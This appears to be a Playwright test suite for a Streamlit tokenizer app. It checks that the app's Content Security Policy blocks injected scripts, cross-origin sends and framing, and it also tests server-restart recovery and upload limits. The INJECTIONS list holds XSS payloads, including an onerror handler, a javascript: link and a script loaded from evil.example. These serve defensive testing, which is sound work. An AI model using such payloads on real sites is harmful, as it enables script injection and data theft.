"""What the public meets: a page that runs no script but its own, and a server that is restarted."""

import pytest
from app_page import App
from app_server import Server
from playwright.sync_api import expect
from psutil import Process, wait_procs

#: Ways in which a text that became markup would run a script; each leaves its mark if it does.
INJECTIONS = [
    "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
    " document.body.append(s)",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    "document.body.insertAdjacentHTML('beforeend',"
    " '<iframe srcdoc=\"<script>parent.ran = 1</script>\"></iframe>')",
    "const a = document.createElement('a'); a.href = 'javascript:void(window.ran = 1)';"
    " document.body.append(a); a.click()",
    "setTimeout('window.ran = 1')",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    " document.body.append(s)",
]


@pytest.fixture
def stranger(visits):
    """A page in which the policy may be broken."""
    page = visits.new_page()
    yield page
    page.close()


@pytest.mark.parametrize("injection", INJECTIONS)
def test_a_script_that_got_into_the_page_is_not_run(stranger, server, injection):
    app = App(stranger, server)
    with stranger.expect_console_message(lambda said: "Content Security Policy" in said.text):
        stranger.evaluate(f"() => {{ {injection} }}")
    assert stranger.evaluate("() => window.ran") is None
    app.click("Next step")
    assert app.step == 14


def test_what_was_typed_reaches_no_other_server(stranger, server):
    """The same server by another name is another one to a browser."""
    App(stranger, server)
    elsewhere = server.replace("localhost", "127.0.0.1") + "/_stcore/health"
    ask = f"() => fetch('{elsewhere}?text', {{mode: 'no-cors'}}).then(() => 1, () => 0)"
    asked = []
    stranger.on("request", lambda request: asked.append(request.url))
    assert not stranger.evaluate(ask)
    with stranger.expect_console_message(lambda said: "connect-src" in said.text):
        stranger.evaluate(f"() => {{ navigator.sendBeacon('{elsewhere}?text', 'text') }}")
    assert not [url for url in asked if "?text" in url]


def test_no_other_site_shows_the_app_in_a_frame(stranger, server):
    with stranger.expect_console_message(lambda said: "frame-ancestors" in said.text):
        stranger.set_content(f'<iframe src="{server}"></iframe>')
    assert "Streamlit" not in stranger.frames[1].content()


def test_a_restarted_server_is_found_again_without_a_reload(page, tmp_path):
    own = Server(tmp_path / "log")
    with own:
        app = App(page, own.address)
        app.train("low low lower newest", "BPE", 14)
        app.go(2)
        app.wait_settled()
        workers = Process(own.process.pid).children(recursive=True)
        assert workers
    assert not wait_procs(workers, 5)[1]
    lost = page.get_by_text("No connection to the server.")
    expect(lost).to_be_visible()
    with own:
        expect(lost).to_have_count(0)
        app.settle()
        app.go(2)
        app.wait_settled()
        app.click("Add a lane")
        app.algorithm("WordPiece")
        app.press_train()
        expect(page.locator(".tv-lane")).to_have_count(2)
        assert app.words("BPE")[0]
    assert "Traceback" not in own.said(), own.said()


def test_a_file_that_a_session_has_no_room_for_is_not_taken_and_the_page_says_so(page, tmp_path):
    own = tmp_path / "own.toml"
    own.write_text("[files]\nsession_bytes = 3000\n", "utf-8")
    with Server(tmp_path / "log", environment={"TOKVIZ_LIMITS": str(own)}) as served:
        page.goto(f"{served.address}/open")
        field = page.locator("input[type=file]")
        with page.expect_response("**/upload_file/**") as taken:
            field.set_input_files({"name": "a.txt", "mimeType": "", "buffer": b"a" * 2000})
        assert taken.value.status == 204
        said = page.get_by_text("The file was not taken: this page may upload 3 kB in all.")
        assert not said.count()
        with page.expect_response("**/upload_file/**") as refused:
            field.set_input_files({"name": "b.txt", "mimeType": "", "buffer": b"b" * 2000})
        assert refused.value.status == 413
        expect(said).to_be_visible()
        page.reload()
        with page.expect_response("**/upload_file/**") as taken:
            field.set_input_files({"name": "b.txt", "mimeType": "", "buffer": b"b" * 2000})
        assert taken.value.status == 204
    assert "Traceback" not in served.said(), served.said()
